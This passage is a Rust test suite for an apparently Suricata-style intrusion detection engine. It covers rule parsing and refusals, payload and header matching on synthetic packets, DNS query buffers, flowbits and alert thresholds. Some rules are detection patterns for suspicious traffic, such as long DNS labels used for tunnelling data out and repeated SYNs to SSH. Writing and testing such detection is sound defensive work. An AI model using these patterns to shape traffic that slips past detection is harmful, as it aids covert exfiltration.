//! The signature engine: parser acceptance and refusals (with file:line and keyword), matching
//! on built frames, thresholds over time, scaling to thousands of rules, the default rules,
//! and the Suricata conformance subset (PHANTOMNET_CONFORMANCE = suricata-verify dir) and the
//! shared captures (PHANTOMNET_PCAPS) replayed through the built binary.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use phantomnet::decode::{decode, LinkType, Micros, PacketMeta};
use phantomnet::rules::{FlowRuleState, PacketCtx, RuleHit, RuleSet, RuleVars};

use crate::util::frames::{self, MAC_A, MAC_B};
use crate::util::{bin, read_eve, repo, TempDir};

const A: [u8; 4] = [192, 168, 1, 10];
const B: [u8; 4] = [93, 184, 216, 34];

fn load(text: &str) -> (RuleSet, phantomnet::rules::LoadReport) {
    RuleSet::parse_str(text, "t.rules", &RuleVars::default_home(), 1024)
}

fn load_ok(text: &str) -> RuleSet {
    let (set, rep) = load(text);
    assert!(
        rep.skipped.is_empty(),
        "unexpected skips: {:?}",
        rep.skipped
    );
    set
}

/// Flow flags for one packet in a test.
#[derive(Clone, Copy)]
struct Dir {
    has_flow: bool,
    to_server: bool,
    established: bool,
    /// Sequence space used by (client, server).
    stream: [u32; 2],
}

const STATELESS: Dir = Dir {
    has_flow: false,
    to_server: false,
    established: false,
    stream: [0; 2],
};
const EST_TS: Dir = Dir {
    has_flow: true,
    to_server: true,
    established: true,
    stream: [0; 2],
};

fn sids_of(
    set: &mut RuleSet,
    frame: &[u8],
    ts: Micros,
    d: Dir,
    flow: &mut FlowRuleState,
) -> Vec<u32> {
    let meta = decode(LinkType::Ethernet, frame, frame.len() as u32);
    let mut out = Vec::with_capacity(16);
    let ctx = PacketCtx {
        ts,
        meta: &meta,
        frame,
        has_flow: d.has_flow,
        to_server: d.to_server,
        established: d.established,
        stream: d.stream,
    };
    set.inspect(&ctx, flow, &mut out);
    let mut v: Vec<u32> = out.iter().map(|h| set.info(h.rule).sid).collect();
    v.sort_unstable();
    v
}

fn hit(set: &mut RuleSet, frame: &[u8], d: Dir) -> Vec<u32> {
    sids_of(set, frame, 0, d, &mut FlowRuleState::default())
}

fn tcp(dport: u16, flags: u8, payload: &[u8]) -> Vec<u8> {
    frames::eth_ipv4_tcp(MAC_A, MAC_B, A, B, 40000, dport, flags, 1000, 1, payload)
}

fn udp(dport: u16, payload: &[u8]) -> Vec<u8> {
    frames::eth_ipv4_udp(MAC_A, MAC_B, A, B, 40000, dport, payload)
}

// ---------------------------------------------------------------- parser

#[test]
fn every_supported_keyword_parses() {
    let text = r#"
# comment, then a blank line

alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (msg:"a \"quoted\" msg"; flow:established,to_server; content:"GET"; nocase; depth:3; offset:0; content:"|0d 0a|"; distance:0; within:200; fast_pattern; pcre:"/^Host:\s+\S+/smi"; reference:url,example.com\;x; metadata:a b; classtype:web-application-attack; sid:1; rev:2; gid:1;)
alert tcp any any -> any [22,23,1024:] (flags:S,CE; dsize:0; ttl:<128; tcp.mss:<1400; window:!0; seq:0; ack:0; sid:2;)
alert udp any any -> any 53 (dsize:>100; content:!"abc"; isdataat:!10,relative; byte_test:2,>,10,0; byte_jump:1,2,relative,multiplier 2,post_offset 1; sid:3;)
alert icmp any any -> any any (itype:8; icode:0; icmp_id:5; icmp_seq:6; priority:1; sid:4;)
alert ip any any <> [10.0.0.0/8,!10.1.0.0/16] any (ip_proto:!tcp; id:7; sameip; fragbits:M+; fragoffset:0; tos:0; sid:5;)
drop tcp any any -> any any (content:"x"; byte_extract:1,0,len,relative,string,dec; content:"y"; distance:len; within:1; startswith; sid:6;)
reject udp any any -> any any (content:"z"; endswith; flowbits:set,a; flowbits:noalert; sid:7;)
pass tcp any any -> any any (flowbits:isset,a|b; threshold:type limit, track by_src, count 1, seconds 60; sid:8;)
alert tcp any any -> any any (flowbits:isnotset,a&b; detection_filter:track by_dst, count 5, seconds 10, unique_on dst_port; sid:9;)
alert icmpv6 any any -> ff00::/8 any (itype:128; flow:stateless; sid:10;)
alert tcp any any -> any any (content:"multi"; \
    content:"line"; distance:0; sid:11;)
alert ip any any -> any any (threshold:type both, track by_rule, count 2, seconds 5; noalert; sid:12;)
"#;
    let (set, rep) = load(text);
    assert!(rep.skipped.is_empty(), "{:?}", rep.skipped);
    assert_eq!(rep.loaded, 12);
    assert_eq!(set.len(), 12);
    let i = (0..12).find(|&i| set.info(i).sid == 1).unwrap();
    let info = set.info(i);
    assert_eq!(info.msg, "a \"quoted\" msg");
    assert_eq!(info.category, "Web Application Attack");
    assert_eq!(info.priority, 1);
    assert_eq!(info.rev, 2);
    assert_eq!(info.action.eve_action(), "allowed");
    let d = (0..12).find(|&i| set.info(i).sid == 6).unwrap();
    assert_eq!(set.info(d).action.eve_action(), "blocked");
    assert_eq!(set.origin(i), Some(("t.rules", 4)));
}

#[test]
fn bad_rules_are_skipped_naming_file_line_and_keyword() {
    let cases: &[(&str, &str)] = &[
        ("alert http any any -> any any (sid:1;)", "protocol `http`"),
        ("alert tcp any any -> any any (http.uri; content:\"x\"; sid:1;)", "`http.uri`"),
        ("alert tcp any any -> any any (content:\"x\"; flowint:count,+,1; sid:1;)", "`flowint`"),
        ("alert tcp any any -> any any (pcre:\"/(a)\\1/\"; sid:1;)", "pcre"),
        ("alert tcp any any -> any any (pcre:\"/(?=a)b/\"; sid:1;)", "pcre"),
        ("alert tcp any any -> any any (pcre:\"/x/U\"; sid:1;)", "flag `U`"),
        ("alert tcp any any -> any any (content:\"x\"; sid:1)", "not terminated"),
        ("alert tcp any any -> any any (msg:\"no sid\";)", "missing `sid`"),
        ("alert tcp any any => any any (sid:1;)", "direction `=>`"),
        ("alert tcp $NOPE any -> any any (sid:1;)", "$NOPE"),
        ("alert tcp any 99999 -> any any (sid:1;)", "99999"),
        ("alert tcp any any -> any any (nocase; sid:1;)", "nocase: needs a preceding `content`"),
        ("alert tcp any any -> any any (content:\"|4g|\"; sid:1;)", "hex digit"),
        ("alert tcp any any -> any any (content:\"ab\"; within:1; sid:1;)", "within"),
        ("alert tcp any any -> any any (content:\"a\"; depth:3; distance:1; sid:1;)", "offset/depth"),
        ("alert tcp any any -> any any (dsize:5<>2; sid:1;)", "dsize"),
        ("alert tcp any any -> any any (ttl:300; sid:1;)", "ttl"),
        ("alert tcp any any -> any any (flags:SX; sid:1;)", "flags"),
        ("alert tcp any any -> any any (flow:to_server,to_client; sid:1;)", "flow"),
        ("alert tcp any any -> any any (flowbits:frob,a; sid:1;)", "flowbits"),
        ("alert tcp any any -> any any (threshold:type x, track by_src, count 1, seconds 1; sid:1;)", "threshold"),
        ("alert tcp any any -> any any (detection_filter:track by_src, count 1; sid:1;)", "seconds"),
        ("alert tcp any any -> any any (byte_test:2,>,x,0; sid:1;)", "byte_test"),
        ("alert tcp any any -> any any (byte_jump:11,0; sid:1;)", "byte_jump"),
        ("alert tcp any any -> any any (content:\"a\"; byte_extract:1,0,v,dce; sid:1;)", "dce"),
        ("alert tcp any any -> any any (classtype:nope; sid:1;)", "classtype"),
        ("alert tcp any any -> any any (content:\"a\"; distance:nope; sid:1;)", "distance"),
        ("alert tcp any any -> any any sid:1;", "`(`"),
    ];
    for (rule, needle) in cases {
        let text = format!("# header\n\n{rule}\n");
        let (set, rep) = load(&text);
        assert_eq!(set.len(), 0, "{rule} loaded");
        assert_eq!(rep.skipped.len(), 1, "{rule}");
        let s = &rep.skipped[0];
        let shown = s.to_string();
        assert!(shown.starts_with("t.rules:3:"), "{shown}");
        assert!(
            shown.contains(needle),
            "`{shown}` does not mention `{needle}`"
        );
    }
    // A duplicate sid is refused, naming the first definition.
    let (set, rep) =
        load("alert ip any any -> any any (sid:7;)\nalert ip any any -> any any (sid:7;)\n");
    assert_eq!(set.len(), 1);
    assert!(rep.skipped[0].to_string().contains("first at t.rules:1"));
}

#[test]
fn unreadable_file_is_an_error_naming_it() {
    let err = RuleSet::load_files(
        &[PathBuf::from("/nonexistent/x.rules")],
        &RuleVars::default_home(),
        16,
    )
    .unwrap_err();
    assert!(err.to_string().contains("/nonexistent/x.rules"));
}

#[test]
fn bad_variables_are_errors_naming_the_variable() {
    let err = RuleVars::new(&[("HOME_NET".into(), "[10.0.0.0/33]".into())], &[]).unwrap_err();
    assert!(err.to_string().contains("$HOME_NET"), "{err}");
    let v = RuleVars::new(&[("HOME_NET".into(), "93.184.216.0/24".into())], &[]).unwrap();
    let (mut set, _) = RuleSet::parse_str(
        "alert tcp $EXTERNAL_NET any -> $HOME_NET any (sid:1;)",
        "v",
        &v,
        16,
    );
    assert_eq!(hit(&mut set, &tcp(80, 0x02, b""), STATELESS), [1]);
}

// ---------------------------------------------------------------- matching

#[test]
fn content_modifiers() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (content:"get"; nocase; depth:3; sid:1;)
alert tcp any any -> any any (content:"GET"; offset:1; sid:2;)
alert tcp any any -> any any (content:"/a"; content:"HTTP"; distance:1; within:6; sid:3;)
alert tcp any any -> any any (content:"GET"; content:!"evil"; sid:4;)
alert tcp any any -> any any (content:"|0d 0a|"; endswith; sid:5;)
alert tcp any any -> any any (content:"GET /a"; startswith; content:"HTTP/1.1"; distance:1; sid:6;)
alert tcp any any -> any any (content:"GET"; pcre:"/^\s+\/a\s/R"; sid:7;)
alert tcp any any -> any any (pcre:"/http\/1\.[01]/i"; sid:8;)
alert tcp any any -> any any (content:"GET"; pcre:!"/evil/"; sid:9;)
"#,
    );
    assert_eq!(
        hit(&mut set, &tcp(80, 0x18, b"GET /a HTTP/1.1\r\n"), STATELESS),
        [1, 3, 4, 5, 6, 7, 8, 9]
    );
    assert_eq!(
        hit(&mut set, &tcp(80, 0x18, b"xGET /evil HTTP/1.1"), STATELESS),
        [2, 8]
    );
}

#[test]
fn byte_keywords_and_isdataat() {
    let mut set = load_ok(
        r#"
alert udp any any -> any any (byte_test:2,=,258,0; sid:1;)
alert udp any any -> any any (byte_test:2,=,513,0,little; sid:2;)
alert udp any any -> any any (content:"L="; byte_test:3,>,99,0,relative,string,dec; sid:3;)
alert udp any any -> any any (content:"L="; byte_jump:3,0,relative,string,dec; content:"END"; distance:0; within:3; sid:4;)
alert udp any any -> any any (content:"L="; byte_extract:3,0,n,relative,string; isdataat:n,relative; sid:5;)
alert udp any any -> any any (content:"L="; byte_extract:3,0,n,relative,string; isdataat:!n,relative; sid:6;)
alert udp any any -> any any (byte_test:1,&,0x80,0; sid:7;)
alert udp any any -> any any (byte_test:1,!&,1,1; sid:8;)
"#,
    );
    // bytes 01 02 | "L=005" | 5 bytes | "END"
    let p = b"\x01\x02L=005xxxxxEND";
    assert_eq!(hit(&mut set, &udp(9, p), STATELESS), [1, 2, 4, 5, 8]);
    let p = b"\x81\x03L=123xEND";
    assert_eq!(hit(&mut set, &udp(9, p), STATELESS), [3, 6, 7]);
}

#[test]
fn header_keywords() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (flags:S; sid:1;)
alert tcp any any -> any any (flags:S+; sid:2;)
alert tcp any any -> any any (flags:*FA; sid:3;)
alert tcp any any -> any any (flags:!R; sid:4;)
alert tcp any any -> any any (flags:S,CE; sid:5;)
alert tcp any any -> any 22 (dsize:0; sid:6;)
alert tcp any any -> any any (tcp.mss:<536; sid:7;)
alert ip any any -> any any (ttl:64; sid:8;)
alert ip any any -> any any (ip_proto:6; sid:9;)
alert tcp any any -> !93.184.216.34 any (sid:10;)
alert tcp any [1024:] -> any :1023 (sid:11;)
alert tcp any any <> 192.168.1.10 40000 (sid:12;)
"#,
    );
    let syn = frames::eth_ipv4_tcp_mss(MAC_A, MAC_B, A, B, 40000, 22, 0x02, 1, 0, 500, b"");
    assert_eq!(
        hit(&mut set, &syn, STATELESS),
        [1, 2, 4, 5, 6, 7, 8, 9, 11, 12]
    );
    let synece = tcp(22, 0x42, b"");
    assert_eq!(
        hit(&mut set, &synece, STATELESS),
        [2, 4, 5, 6, 8, 9, 11, 12]
    );
    let finack = tcp(22, 0x11, b"x");
    assert_eq!(hit(&mut set, &finack, STATELESS), [3, 4, 8, 9, 11, 12]);
}

#[test]
fn icmp_keywords_match_v4_and_v6() {
    let mut set = load_ok(
        r#"
alert icmp any any -> any any (itype:8; sid:1;)
alert icmp any any -> any any (itype:<15; sid:2;)
alert icmp any any -> any any (itype:7<>20; icmp_id:7; icmp_seq:9; sid:3;)
alert icmp any any -> any any (itype:128; sid:4;)
alert icmpv6 any any -> any any (icode:0; sid:5;)
alert icmp any any -> any any (dsize:>100; sid:6;)
"#,
    );
    let e4 = frames::eth_ipv4_icmp_echo(MAC_A, MAC_B, A, B, false, 7, 9, &[0u8; 200]);
    assert_eq!(hit(&mut set, &e4, STATELESS), [1, 2, 3, 6]);
    let a6 = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
    let b6 = [0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
    let e6 = frames::eth_ipv6_icmpv6_echo(MAC_A, MAC_B, a6, b6, false, 7, 9, b"hi");
    assert_eq!(hit(&mut set, &e6, STATELESS), [4, 5]);
}

#[test]
fn flow_keyword_needs_the_engine_flags() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (flow:to_server,established; sid:1;)
alert tcp any any -> any any (flow:to_client; sid:2;)
alert tcp any any -> any any (flow:not_established; sid:3;)
alert tcp any any -> any any (flow:stateless; sid:4;)
"#,
    );
    let f = tcp(80, 0x10, b"");
    assert_eq!(hit(&mut set, &f, STATELESS), [4]);
    assert_eq!(hit(&mut set, &f, EST_TS), [1, 4]);
    let tc = Dir {
        has_flow: true,
        to_server: false,
        established: false,
        stream: [0; 2],
    };
    assert_eq!(hit(&mut set, &f, tc), [2, 3, 4]);
}

#[test]
fn stream_size_compares_each_side_of_the_tcp_stream() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (stream_size:server,<,1111; sid:1;)
alert tcp any any -> any any (stream_size:client,>=,100; sid:2;)
alert tcp any any -> any any (stream_size:both,>,50; sid:3;)
alert tcp any any -> any any (stream_size:either,=,7; sid:4;)
alert tcp any any -> any any (stream_size:client,!=,7; sid:5;)
alert tcp any any -> any any (stream_size:server,<=,0; sid:6;)
"#,
    );
    let f = tcp(80, 0x18, b"data");
    let at = |client: u32, server: u32| Dir {
        stream: [client, server],
        ..EST_TS
    };
    assert_eq!(hit(&mut set, &f, at(0, 0)), [1, 5, 6]);
    assert_eq!(hit(&mut set, &f, at(100, 1110)), [1, 2, 3, 5]);
    assert_eq!(hit(&mut set, &f, at(7, 1111)), [4]);
    assert_eq!(hit(&mut set, &f, at(51, 51)), [1, 3, 5]);
    // Without a flow there is no stream to measure: no stream_size rule matches.
    assert_eq!(hit(&mut set, &f, STATELESS), Vec::<u32>::new());
}

/// `frame` (Ethernet + IPv4) with `opts` inserted as IPv4 options (padded to 4 bytes).
fn with_ip_options(frame: &[u8], opts: &[u8]) -> Vec<u8> {
    let mut o = opts.to_vec();
    o.resize(opts.len().div_ceil(4) * 4, 0);
    let mut f = frame[..34].to_vec();
    f.extend_from_slice(&o);
    f.extend_from_slice(&frame[34..]);
    f[14] = 0x40 | (5 + o.len() / 4) as u8;
    let total = u16::from_be_bytes([f[16], f[17]]) + o.len() as u16;
    f[16..18].copy_from_slice(&total.to_be_bytes());
    f
}

#[test]
fn ipopts_matches_the_named_ipv4_option() {
    let mut set = load_ok(
        r#"
alert ip any any -> any any (ipopts:lsrr; sid:1;)
alert ip any any -> any any (ipopts:rr; sid:2;)
alert ip any any -> any any (ipopts:any; sid:3;)
alert ip any any -> any any (ipopts:nop; sid:4;)
alert ip any any -> any any (ipopts:eol; sid:5;)
alert tcp any any -> any any (ipopts:ts; content:"GET"; sid:6;)
"#,
    );
    let plain = tcp(80, 0x18, b"GET / HTTP/1.0");
    assert_eq!(hit(&mut set, &plain, EST_TS), Vec::<u32>::new());
    // NOP, then loose source route (type 131, length 7: pointer + one address), then EOL.
    let lsrr = with_ip_options(&plain, &[1, 131, 7, 4, 10, 0, 0, 1, 0]);
    assert_eq!(hit(&mut set, &lsrr, EST_TS), [1, 3, 4, 5]);
    // Record route (7) and timestamp (68), no EOL; the payload still matches.
    let rr_ts = with_ip_options(&plain, &[7, 3, 4, 68, 4, 5, 0x01]);
    assert_eq!(hit(&mut set, &rr_ts, EST_TS), [2, 3, 5, 6]);
    // A length running past the header ends the walk: nothing named after it is seen.
    let bad = with_ip_options(&plain, &[1, 131, 40, 4]);
    assert_eq!(hit(&mut set, &bad, EST_TS), [3, 4]);
    let err = load("alert ip any any -> any any (ipopts:route; sid:7;)\n").1;
    assert!(err.skipped[0].to_string().contains("`route` is not one of"));
}

#[test]
fn dns_rules_and_the_dns_query_buffer() {
    let mut set = load_ok(
        r#"
alert dns any any -> any any (msg:"bad domain"; dns.query; content:"evil.example"; nocase; endswith; sid:1;)
alert udp any any -> any 53 (dns_query; content:"www."; startswith; pkt_data; content:"|00 10 00 01|"; sid:2;)
alert dns any any -> any any (msg:"any dns"; content:"|00 01 00 00|"; sid:3;)
alert dns any any -> any any (dns.query; pcre:"/^[a-z0-9]{30,}\./"; sid:4;)
alert udp any any -> any 53 (content:"evil"; nocase; sid:5;)
"#,
    );
    let udp53 = |msg: &[u8]| frames::eth_ipv4_udp(MAC_A, MAC_B, A, B, 40000, 53, msg);
    let q = frames::dns_query(7, "mail.EVIL.example", 1);
    assert_eq!(hit(&mut set, &udp53(&q), STATELESS), [1, 3, 5]);
    // The buffer is the dotted name: labels' length bytes are not in it.
    let q = frames::dns_query(8, "www.example.org", 16);
    assert_eq!(hit(&mut set, &udp53(&q), STATELESS), [2, 3]);
    let long = format!("{}.tunnel.example", "a1b2c3d4e5".repeat(4));
    let q = frames::dns_query(9, &long, 16);
    assert_eq!(hit(&mut set, &udp53(&q), STATELESS), [3, 4]);
    // A response (QR set) has no dns.query; `dns` rules still see its payload.
    let mut r = frames::dns_query(7, "mail.evil.example", 1);
    r[2] |= 0x80;
    assert_eq!(hit(&mut set, &udp53(&r), STATELESS), [3, 5]);
    // Over TCP, to port 53.
    let t = frames::dns_over_tcp(&frames::dns_query(10, "cdn.evil.example", 1));
    let tcp53 = frames::eth_ipv4_tcp(MAC_A, MAC_B, A, B, 40000, 53, 0x18, 1000, 1, &t);
    assert_eq!(hit(&mut set, &tcp53, EST_TS), [1, 3]);
    // `dns` rules with any destination port see messages sent to a DNS port, not from one.
    let q = frames::dns_query(11, "x.evil.example", 1);
    let from53 = frames::eth_ipv4_udp(MAC_A, MAC_B, A, B, 53, 40000, &q);
    assert_eq!(hit(&mut set, &from53, STATELESS), Vec::<u32>::new());
    // Not DNS (the decoder found no question): `dns` rules do not apply.
    let junk = udp53(b"evil junk, not a DNS message");
    assert_eq!(hit(&mut set, &junk, STATELESS), [5]);
    // dns.query on a protocol without DNS is refused, naming the keyword.
    let (set, rep) = load("alert icmp any any -> any any (dns.query; content:\"x\"; sid:9;)\n");
    assert_eq!(set.len(), 0);
    assert!(rep.skipped[0]
        .to_string()
        .contains("dns.query: needs a dns"));
}

#[test]
fn bsize_compares_the_sticky_buffers_length() {
    let mut set = load_ok(
        r#"
alert dns any any -> any any (dns.query; bsize:>30; sid:1;)
alert dns any any -> any any (dns.query; content:"example"; bsize:11<>16; sid:2;)
alert udp any any -> any any (udp.hdr; bsize:8; sid:3;)
"#,
    );
    let udp53 = |msg: &[u8]| frames::eth_ipv4_udp(MAC_A, MAC_B, A, B, 40000, 53, msg);
    let q = |name: &str| udp53(&frames::dns_query(1, name, 1));
    assert_eq!(hit(&mut set, &q("www.example.com"), STATELESS), [2, 3]);
    assert_eq!(hit(&mut set, &q("example.com"), STATELESS), [3]);
    let long = "a-rather-long-label-for-a-tunnel.example.com";
    assert_eq!(hit(&mut set, &q(long), STATELESS), [1, 3]);
    let (set, rep) = load("alert tcp any any -> any any (bsize:>5; sid:9;)\n");
    assert_eq!(set.len(), 0);
    assert!(rep.skipped[0]
        .to_string()
        .contains("bsize: needs a sticky buffer"));
}

#[test]
fn header_sticky_buffers_match_the_header_bytes() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (flags:S; tcp.hdr; content:"|02 04|"; offset:20; byte_test:2,<,536,0,big,relative; sid:1;)
alert ip any any -> any any (ipv4.hdr; content:"|06|"; offset:9; depth:1; sid:2;)
alert udp any any -> any any (udp.hdr; content:"|00 35|"; offset:2; depth:2; sid:3;)
alert ip any any -> any any (ipv6.hdr; content:"|3a|"; offset:6; depth:1; sid:4;)
alert tcp any any -> any 80 (tcp.hdr; content:"|00 50|"; offset:2; depth:2; pkt_data; content:"GET"; sid:5;)
"#,
    );
    let syn = |mss| frames::eth_ipv4_tcp_mss(MAC_A, MAC_B, A, B, 40000, 80, 0x02, 1, 0, mss, b"");
    // The MSS option is in the TCP header, past its fixed 20 bytes.
    assert_eq!(hit(&mut set, &syn(500), STATELESS), [1, 2]);
    assert_eq!(hit(&mut set, &syn(1460), STATELESS), [2]);
    // The payload keeps its own matches after `pkt_data`.
    assert_eq!(
        hit(&mut set, &tcp(80, 0x18, b"GET / HTTP/1.0"), EST_TS),
        [2, 5]
    );
    assert_eq!(hit(&mut set, &tcp(80, 0x18, b"POST /"), EST_TS), [2]);
    assert_eq!(hit(&mut set, &udp(53, b"hello"), STATELESS), [3]);
    let v6 = |n: u8| {
        let mut a = [0u8; 16];
        a[0] = 0xfe;
        a[1] = 0x80;
        a[15] = n;
        a
    };
    let echo = frames::eth_ipv6_icmpv6_echo(MAC_A, MAC_B, v6(1), v6(2), false, 1, 1, b"x");
    assert_eq!(hit(&mut set, &echo, STATELESS), [4]);
    // A header buffer its protocol cannot have is refused, naming the keyword.
    let (set, rep) = load("alert udp any any -> any any (tcp.hdr; content:\"x\"; sid:9;)\n");
    assert_eq!(set.len(), 0);
    assert!(rep.skipped[0]
        .to_string()
        .contains("tcp.hdr: needs a tcp or ip rule"));
}

#[test]
fn stream_size_syntax_errors_name_the_problem() {
    for (rule, want) in [
        (
            "stream_size:server,<;",
            "is not <server|client|both|either>",
        ),
        (
            "stream_size:north,<,5;",
            "`north` is not server, client, both or either",
        ),
        ("stream_size:server,<>,5;", "modifier `<>`"),
        ("stream_size:server,<,lots;", "stream_size"),
        (
            "stream_size:server,<,5; stream_size:client,>,1;",
            "given twice",
        ),
    ] {
        let text = format!("alert tcp any any -> any any ({rule} sid:9;)\n");
        let (set, rep) = load(&text);
        assert_eq!(set.len(), 0, "{rule} was accepted");
        let shown = rep.skipped[0].to_string();
        assert!(shown.starts_with("t.rules:1:"), "{shown}");
        assert!(shown.contains(want), "{rule}: {shown}");
    }
}

#[test]
fn flowbits_follow_suricata_ordering() {
    // Mirrors Suricata's detect-flowbits test: writers run before readers.
    let mut set = load_ok(
        r#"
alert ip any any -> any any (flowbits:set,fb1; sid:1;)
alert ip any any -> any any (flowbits:set,fb2; sid:2;)
alert ip any any -> any any (flowbits:isset,fb3|fb4; sid:3;)
alert ip any any -> any any (flowbits:isset,fb1|fb5; sid:5;)
alert ip any any -> any any (flowbits:isnotset, fb1|fb2 ; sid:6;)
alert ip any any -> any any (flowbits:unset,fb1; sid:7;)
alert ip any any -> any any (flowbits:noalert; flowbits:isnotset,fb1; flowbits:set,fb1; content:"GET "; sid:8;)
alert ip any any -> any any (flowbits:isset,fb1; sid:9;)
alert ip any any -> any any (flowbits:noalert; content:"GET "; sid:10;)
alert ip any any -> any any (flowbits:isset,fbt; content:"GET "; sid:11;)
alert ip any any -> any any (flowbits:isset,fb1; flowbits:isset,fb2; sid:12;)
alert ip any any -> any any (flowbits:isset,fb1&fb2; flowbits:toggle,fb2; sid:13;)
"#,
    );
    let mut flow = FlowRuleState::default();
    let p = tcp(80, 0x18, b"GET / HTTP/1.0\r\n");
    // sid 13 (reads and writes) runs with sid 8 before the readers and toggles fb2 off, so
    // sid 6 (isnotset fb1|fb2) matches and sid 12 (isset fb2) does not.
    assert_eq!(
        sids_of(&mut set, &p, 0, EST_TS, &mut flow),
        [1, 2, 5, 6, 7, 9, 13]
    );
    // Without a flow, reads fail and writes do nothing.
    assert_eq!(hit(&mut set, &p, STATELESS), [1, 2, 7]);
}

#[test]
fn pass_rule_silences_the_packet_and_its_flow() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any any (content:"x"; sid:1;)
pass tcp any any -> any 22 (sid:2;)
"#,
    );
    let mut flow = FlowRuleState::default();
    assert_eq!(
        sids_of(&mut set, &tcp(80, 0x18, b"x"), 0, EST_TS, &mut flow),
        [1]
    );
    assert_eq!(
        sids_of(&mut set, &tcp(22, 0x18, b"x"), 0, EST_TS, &mut flow),
        Vec::<u32>::new()
    );
    assert!(flow.passed);
    assert_eq!(
        sids_of(&mut set, &tcp(80, 0x18, b"x"), 0, EST_TS, &mut flow),
        Vec::<u32>::new()
    );
}

// ---------------------------------------------------------------- thresholds over time

fn count_over(set: &mut RuleSet, sid: u32, frames_at: &[(Vec<u8>, i64)]) -> usize {
    let mut flow = FlowRuleState::default();
    frames_at
        .iter()
        .filter(|(f, s)| sids_of(set, f, s * 1_000_000, EST_TS, &mut flow).contains(&sid))
        .count()
}

#[test]
fn threshold_and_detection_filter_timing() {
    let mut set = load_ok(
        r#"
alert tcp any any -> any 22 (flags:S; detection_filter:track by_src, count 3, seconds 10; sid:1;)
alert tcp any any -> any 22 (flags:S; threshold:type limit, track by_src, count 1, seconds 10; sid:2;)
alert tcp any any -> any 22 (flags:S; threshold:type threshold, track by_dst, count 2, seconds 10; sid:3;)
alert tcp any any -> any 22 (flags:S; threshold:type both, track by_rule, count 2, seconds 10; sid:4;)
"#,
    );
    // Six SYNs in the first window (t=0..5), then two after it expired (t=20, 21).
    let syn = tcp(22, 0x02, b"");
    let seq: Vec<(Vec<u8>, i64)> = [0, 1, 2, 3, 4, 5, 20, 21]
        .iter()
        .map(|&t| (syn.clone(), t))
        .collect();
    assert_eq!(count_over(&mut set, 1, &seq), 3); // 4th, 5th, 6th; new window: 2 < 3
    let mut set2 = load_ok(&set_text_sid(2));
    assert_eq!(count_over(&mut set2, 2, &seq), 2); // one per window
    let mut set3 = load_ok(&set_text_sid(3));
    assert_eq!(count_over(&mut set3, 3, &seq), 4); // 2nd, 4th, 6th, then 21
    let mut set4 = load_ok(&set_text_sid(4));
    assert_eq!(count_over(&mut set4, 4, &seq), 2); // once per window at the 2nd
                                                   // What the thresholds kept from alerting is counted (`alerts_suppressed`), once: `set`
                                                   // holds all four rules, each matching all eight SYNs.
    assert_eq!(set.take_suppressed(), (8 - 3) + (8 - 2) + (8 - 4) + (8 - 2));
    assert_eq!(set.take_suppressed(), 0);
    assert_eq!(set2.take_suppressed(), 8 - 2);
    assert_eq!(set3.take_suppressed(), 8 - 4);
    assert_eq!(set4.take_suppressed(), 8 - 2);
}

/// The engine counts what thresholds kept from alerting (`/metrics`
/// `phantomnet_alerts_suppressed_total`), and keeps the count across a rule reload; with the
/// judge on its thread (which then checks thresholds) as on the loop.
#[test]
fn the_engine_counts_suppressed_alerts() {
    use phantomnet::engine::{Engine, EngineOptions};
    for threaded in [false, true] {
        let mut e = Engine::new(EngineOptions::default());
        if threaded {
            e.start_judge_thread().expect("judge thread");
        }
        e.set_rules(Some(load_ok(&set_text_sid(2)))); // limit: one alert per 10 s
        let syn = tcp(22, 0x02, b"");
        for t in 0..5 {
            e.process(t * 1_000_000, &syn);
        }
        e.sync_judged(true);
        let got = (
            e.stats.alerts,
            e.stats.alerts_suppressed,
            e.outbox.alerts.len(),
        );
        assert_eq!(got, (1, 4, 1), "threaded {threaded}");
        e.set_rules(Some(load_ok(&set_text_sid(2))));
        e.process(5_000_000, &syn);
        e.process(6_000_000, &syn);
        e.sync_judged(true);
        let got = (
            e.stats.alerts,
            e.stats.alerts_suppressed,
            e.outbox.alerts.len(),
        );
        assert_eq!(got, (2, 5, 2), "threaded {threaded}");
        assert_eq!(e.threshold_counts(), (0, 0));
        // 1,100 sources matching once overflow the table's 1,024 first sightings (the
        // reloaded source's took place 0 and moved on to a full entry): /metrics reads the
        // table's counts wherever it is.
        for i in 0..1100u32 {
            let src = (0x0a00_0000u32 + i).to_be_bytes();
            let f = frames::eth_ipv4_tcp(MAC_A, MAC_B, src, B, 40000, 22, 0x02, 1000, 1, b"");
            e.process(7_000_000 + i64::from(i), &f);
        }
        e.sync_judged(true);
        assert_eq!(e.threshold_counts(), (0, 76), "threaded {threaded}");
    }
}

fn set_text_sid(sid: u32) -> String {
    let spec = match sid {
        2 => "threshold:type limit, track by_src, count 1, seconds 10",
        3 => "threshold:type threshold, track by_dst, count 2, seconds 10",
        _ => "threshold:type both, track by_rule, count 2, seconds 10",
    };
    format!("alert tcp any any -> any 22 (flags:S; {spec}; sid:{sid};)")
}

#[test]
fn detection_filter_tracks_sources_separately_and_unique_ports() {
    let mut set = load_ok(
        "alert tcp any any -> any any (flags:S; detection_filter:track by_src, count 2, seconds 60, unique_on dst_port; sid:1;)",
    );
    let from = |src: [u8; 4], port: u16| {
        frames::eth_ipv4_tcp(MAC_A, MAC_B, src, B, 40000, port, 0x02, 1, 0, b"")
    };
    let mut n = 0;
    for p in [80, 80, 80, 443] {
        n += hit(&mut set, &from(A, p), STATELESS).len();
    }
    assert_eq!(n, 0, "only two distinct ports so far");
    assert_eq!(hit(&mut set, &from([10, 0, 0, 9], 22), STATELESS).len(), 0);
    assert_eq!(hit(&mut set, &from(A, 22), STATELESS), [1]);
}

/// A `threshold` next to a `detection_filter` (PhantomNet extension) rate-limits what the
/// filter lets through: a scan yields one alert a minute, not one per probe.
#[test]
fn detection_filter_with_threshold_limit_caps_alerts() {
    for order in [
